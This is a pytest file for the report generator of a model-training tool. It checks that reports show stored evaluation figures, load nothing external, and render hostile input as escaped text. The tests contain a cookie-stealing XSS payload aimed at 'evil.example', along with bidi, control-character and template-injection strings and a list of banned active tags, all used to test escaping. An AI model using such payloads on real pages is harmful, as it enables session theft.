"""The report: every figure that was stored, nothing that runs or is fetched, and hostile text as
text."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given, settings
from hypothesis import strategies as st

from thumbwheel.core.errors import StorageError
from thumbwheel.db.schema import decisions, evaluations
from thumbwheel.db.workspace import Workspace
from thumbwheel.models import versions
from thumbwheel.models.types import ModelVersion
from thumbwheel.report import report_charts
from thumbwheel.report.charts import Change, ChartLine, bars, changes, curves
from thumbwheel.report.formatting import EXCERPT, visible
from thumbwheel.report.report import changed, collect, page, report
from thumbwheel.training.algorithms.sft import SftConfig

VOID = {"meta", "br", "img", "input", "link", "hr"}
HOSTILE_PARTS = ("<script>", "<img src=x", "\u202e", "\u0007")


class Reader(HTMLParser):
    """Checks nesting and collects tags, attributes and text."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    return reader


@pytest.fixture
def written(
    empty_ws: Workspace, turn: ModelVersion, tmp_path: Path
) -> tuple[str, dict[str, object]]:
    done = report(
        empty_ws,
        versions.version(empty_ws, "support", "v1"),
        tmp_path / "out" / "report.html",
        tmp_path / "out" / "report.json",
    )
    assert done.path
    assert sorted(path.name for path in done.path.parent.iterdir()) == [
        "report.html",
        "report.json",
    ]
    return done.path.read_text(encoding="utf-8"), json.loads(
        (tmp_path / "out" / "report.json").read_text()
    )


def test_the_figures_are_those_that_were_stored(written: tuple[str, dict[str, object]]) -> None:
    text = " ".join(read(written[0]).text.split())
    for shown in (
        "61.2 %",
        "80.1 %",
        "+18.9",
        "+14.8 to +23.0",
        "620 held-out items",
        "Basis: gold",
        "Approved",
        "support v1",
    ):
        assert shown in text
    for shown in (
        "habit: invoices",
        "12.0 → 88.0 %",
        "answers that end by themselves",
        "99.8 %",
        "not measured",
        "answer equals the correction",
    ):
        assert shown in text
    assert (
        "thumbwheel train dpo --agent support --base /models/filer-base --dataset dst_pairs "
        "--learning-rate 5e-05 --seed 7 --beta 0.2" in text
    )
    assert "thumbwheel evaluate --replay dec_1" in text
    assert "run_1 dpo seed 7" in text


def test_the_json_has_the_same_and_more(written: tuple[str, dict[str, object]]) -> None:
    value = written[1]
    summary, training = value["summary"], value["training"]
    assert isinstance(summary, dict)
    assert isinstance(training, dict)
    assert (summary["before"], summary["after"], summary["decision"], summary["basis"]) == (
        0.612,
        0.801,
        "approved",
        "gold",
    )
    assert len(training["train"]) == 60
    assert len(training["dev"]) == 11
    assert training["best"] == 60, "the widest dev margin, as the run's own metric asks"
    assert value["environment"] == {
        "python": "3.11.7",
        "torch": "2.13.0",
        "platform": "Linux",
        "cpus": 2,
    }


def test_nothing_is_fetched_and_nothing_runs(written: tuple[str, dict[str, object]]) -> None:
    reader = read(written[0])
    assert not {
        "script",
        "iframe",
        "object",
        "embed",
        "link",
        "img",
        "form",
        "base",
        "audio",
        "video",
    } & set(reader.tags)
    names = {name for name, _ in reader.attributes}
    assert not [name for name in names if name.startswith("on")]
    assert {
        value
        for name, value in reader.attributes
        if name == "xlink:href" and not str(value).startswith("#")
    } == set()
    assert "href" not in names
    assert "src" not in names
    assert "default-src 'none'" in written[0]
    assert re.findall(r"url\((?!#)", written[0]) == []
    assert "@import" not in written[0]


def test_hostile_text_is_text(written: tuple[str, dict[str, object]]) -> None:
    html = written[0]
    assert "<script>" not in html
    assert "\u202e" not in html
    assert "\u0007" not in html
    assert "49 }}" not in html
    shown = read(html).text
    assert shown.count('<script>fetch("//evil.example/"+document.cookie)</script>') == 3
    assert shown.count("\\u202egnp.exe\\u0007 {{ 7*7 }}") == 3
    assert f"({9000 - EXCERPT} more characters)" in shown


@settings(max_examples=200, deadline=None)
@given(text=st.text(max_size=80))
def test_no_text_changes_the_page(text: str) -> None:
    from markupsafe import escape

    assert not re.search("[\u202a-\u202e\u2066-\u2069\u0000]", visible(text))
    reader = read(f"<pre>{escape(visible(text))}</pre>")
    assert reader.tags == ["pre"]


def test_charts_are_well_formed_labelled_and_apart(empty_ws: Workspace, turn: ModelVersion) -> None:
    drawn = report_charts.draw(collect(empty_ws, versions.version(empty_ws, "support", "v1")))
    assert set(drawn) == {"measures", "slices", "splits", "origins", "curves"}
    seen: set[str] = set()
    for svg in drawn.values():
        root = ET.fromstring(svg)
        assert root.attrib["role"] == "img"
        assert [child.tag.split("}")[1] for child in root][:2] == ["title", "desc"]
        ids = {element.attrib["id"] for element in root.iter() if "id" in element.attrib}
        assert not ids & seen, "two charts on one page share an id"
        seen |= ids
        assert "metadata" not in svg
        assert "currentColor" in svg
    assert "common rules: 97.0 to 96.5 percent, gain -2.5 to +1.5 points, n 414" in drawn["slices"]
    assert (
        report_charts.draw(collect(empty_ws, versions.version(empty_ws, "support", "v1"))) == drawn
    ), "the same values give the same drawing"


@pytest.mark.parametrize(
    "hostile", ["<b>&\"'", "$\\frac{1}{0}$", "a" * 300, "\u202eevil\u0000", ""]
)
def test_chart_labels_are_hostile_too(hostile: str) -> None:
    for svg in (
        changes([Change(hostile, 0.0, 100.0, -5.0, 5.0, 0)], hostile),
        bars({hostile: 3}, hostile),
        curves(
            {hostile or "x": [ChartLine("train", [(1, 1.0)]), ChartLine("dev", [(1, 1.0)])]},
            1,
            (),
            hostile,
        ),
    ):
        ET.fromstring(svg)


def test_a_version_that_was_never_evaluated(empty_ws: Workspace, turn: ModelVersion) -> None:
    def forget(connection: sa.Connection) -> None:
        connection.execute(decisions.delete())
        connection.execute(evaluations.delete())

    empty_ws.db.write(forget)
    value = collect(empty_ws, versions.version(empty_ws, "support", "v1"))
    assert (value["summary"], value["evaluation"], value["guards"]) == (None, None, [])
    text = read(page(value)).text
    assert "Not evaluated yet" in text
    assert "thumbwheel evaluate v1 --agent support" in text


def test_a_plain_base_has_a_report(empty_ws: Workspace, turn: ModelVersion) -> None:
    text = read(page(collect(empty_ws, versions.version(empty_ws, "support", "v0")))).text
    assert "support v0" in text
    assert "Training" not in text


def test_a_run_without_metrics_has_no_curves(empty_ws: Workspace, turn: ModelVersion) -> None:
    (empty_ws.home.runs / "run_1" / "metrics.jsonl").unlink()
    value = collect(empty_ws, versions.version(empty_ws, "support", "v1"))
    assert "curves" not in report_charts.draw(value)
    read(page(value))


@pytest.mark.slow
@pytest.mark.parametrize(
    ("decision", "words"),
    [("rejected", "Rejected"), ("approved_for_canary", "Approved for canary")],
)
def test_other_decisions_and_basis_feedback(
    empty_ws: Workspace, turn: ModelVersion, decision: str, words: str
) -> None:
    def change(connection: sa.Connection) -> None:
        connection.execute(decisions.update().values(decision=decision))
        results = dict(connection.execute(sa.select(evaluations.c.results)).scalar_one()) | {
            "basis": "feedback",
            "fresh": False,
        }
        connection.execute(evaluations.update().values(basis="feedback", results=results))

    empty_ws.db.write(change)
    text = " ".join(
        read(page(collect(empty_ws, versions.version(empty_ws, "support", "v1")))).text.split()
    )
    assert words in text
    assert "it permits a canary, and a won experiment then opens live" in text
    assert "no fresh answer was judged" in text


def test_a_place_that_cannot_be_written(
    empty_ws: Workspace, turn: ModelVersion, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(StorageError, match="report"):
        report(
            empty_ws, versions.version(empty_ws, "support", "v1"), tmp_path / "file" / "report.html"
        )


def test_settings_of_a_run_that_are_defaults_are_not_listed() -> None:
    """A run records them as JSON, where a tuple is a list."""
    recorded = SftConfig(batch_size=4, min_steps=100).model_dump(mode="json")
    assert changed("sft", recorded) == {"batch_size": 4, "min_steps": 100}
    assert changed("of another release", {"rate": 1}) == {"rate": 1}
